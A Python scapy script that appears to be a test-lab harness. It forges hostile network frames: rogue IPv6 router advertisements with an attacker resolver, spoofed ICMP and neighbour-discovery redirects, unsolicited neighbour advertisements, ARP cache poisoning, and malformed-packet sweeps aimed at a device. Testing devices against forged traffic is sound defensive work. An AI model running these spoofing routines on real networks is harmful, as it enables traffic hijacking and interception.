#!/usr/bin/env python3
"""Sends frames that no honest neighbour sends. Runs in the attacker's network namespace, on eth0.

usage: forge.py <trick> <arguments>
"""
import sys
from scapy.all import ARP, ICMP, IP, TCP, UDP, Ether, IPv6, conf, sendp, get_if_hwaddr
from scapy.layers.inet6 import (
    ICMPv6EchoRequest, ICMPv6MLQuery, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptRedirectedHdr, ICMPv6NDOptRDNSS, ICMPv6NDOptSrcLLAddr, IPv6ExtHdrFragment,
    IPv6ExtHdrRouting,
)

conf.verb = 0
LINK = "eth0"
OWN = get_if_hwaddr(LINK)


def send(packet, to="ff:ff:ff:ff:ff:ff"):
    sendp(Ether(src=OWN, dst=to) / packet, iface=LINK)


def router(mac):
    """A router advertisement with a prefix and a resolver of the attacker's."""
    advertisement = (
        IPv6(src="fe80::bad", dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=1800, prf=1)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64, validlifetime=600, preferredlifetime=600)
        / ICMPv6NDOptRDNSS(dns=["2001:db8:1::66"], lifetime=600) / ICMPv6NDOptSrcLLAddr(lladdr=OWN)
    )
    send(advertisement, "33:33:00:00:00:01")


def routed_router(mac):
    """The same from beyond a router: hop limit 64 and a global source (RFC 4861 section 6.1.2 wants neither)."""
    send(IPv6(src="2001:db8:1::66", dst="ff02::1", hlim=64) / ICMPv6ND_RA(routerlifetime=1800)
         / ICMPv6NDOptPrefixInfo(prefix="2001:db8:dead::", prefixlen=64), "33:33:00:00:00:01")


def redirect4(mac, device, gateway, target, attacker):
    """An ICMP redirect that claims to be the gateway's and quotes a flow that the device has."""
    quoted = IP(src=device, dst=target) / TCP(sport=40000, dport=8883)
    for code in range(4):
        send(IP(src=gateway, dst=device) / ICMP(type=5, code=code, gw=attacker) / quoted, mac)


def redirect6(mac, device, router_address, target):
    """A neighbour discovery redirect, hop limit 255 as it must be."""
    send(IPv6(src=router_address, dst=device, hlim=255) / ICMPv6ND_Redirect(tgt="fe80::bad", dst=target)
         / ICMPv6NDOptDstLLAddr(lladdr=OWN)
         / ICMPv6NDOptRedirectedHdr(pkt=IPv6(src=device, dst=target) / TCP(dport=8883)), mac)


def neighbour(mac, device):
    """Unasked neighbour advertisements with every flag, and with a hop limit that came through a router."""
    for hops in (255, 64):
        send(IPv6(src="fe80::bad", dst=device, hlim=hops) / ICMPv6ND_NA(tgt="2001:db8:1::10", R=1, S=1, O=1)
             / ICMPv6NDOptDstLLAddr(lladdr=OWN), mac)


def pings(mac, device, device6):
    """Whatever a host may answer out of politeness."""
    for kind in (8, 13, 15, 17):
        send(IP(src="198.51.100.66", dst=device) / ICMP(type=kind), mac)
    send(IP(src="198.51.100.66", dst="198.51.100.255") / ICMP(type=8))
    for target, to in ((device6, mac), ("ff02::1", "33:33:00:00:00:01")):
        send(IPv6(src="2001:db8:1::66", dst=target, hlim=255) / ICMPv6EchoRequest(), to)


def protocols(mac, device, device6):
    """Every IP protocol number, and IPv6 headers that make careless hosts complain (RFC 4443 section 3.4)."""
    for number in range(256):
        send(IP(src="198.51.100.66", dst=device, proto=number) / b"0123456789abcdef", mac)
        send(IPv6(src="2001:db8:1::66", dst=device6, nh=number) / b"0123456789abcdef", mac)
    send(IPv6(src="2001:db8:1::66", dst=device6) / IPv6ExtHdrRouting(type=0, addresses=["2001:db8:1::10"])
         / TCP(dport=8883), mac)
    # An option that must be complained about (RFC 8200 section 4.2), between header and datagram.
    send(IPv6(src="2001:db8:1::66", dst=device6, nh=0) / bytes([17, 0, 0xC2, 4, 0, 0, 0, 0]) / bytes(8), mac)
    send(IPv6(src="2001:db8:1::66", dst=device6) / IPv6ExtHdrFragment(offset=0, m=1) / UDP(dport=53) / (b"x" * 64), mac)


def replies(mac, device, device6):
    """Answers to questions that nobody asked: from the ports that rules like to trust."""
    for port in (53, 67, 123, 443, 547, 8883):
        send(IP(src="198.51.100.66", dst=device) / UDP(sport=port, dport=68) / b"x", mac)
        send(IP(src="198.51.100.66", dst=device) / UDP(sport=port, dport=9) / b"x", mac)
        send(IPv6(src="2001:db8:1::66", dst=device6) / UDP(sport=port, dport=546) / b"x", mac)
        send(IP(src="198.51.100.66", dst=device) / TCP(sport=port, dport=40000, flags="SA"), mac)
        send(IP(src="198.51.100.66", dst=device) / TCP(sport=port, dport=22, flags="S"), mac)


def steal(mac, device, target):
    """ARP replies that make the attacker the broker."""
    send(ARP(op=2, psrc=target, pdst=device, hwsrc=OWN, hwdst=mac), mac)


TRICKS = {f.__name__: f for f in (router, routed_router, redirect4, redirect6, neighbour, pings, protocols, replies, steal)}
TRICKS[sys.argv[1]](*sys.argv[2:])
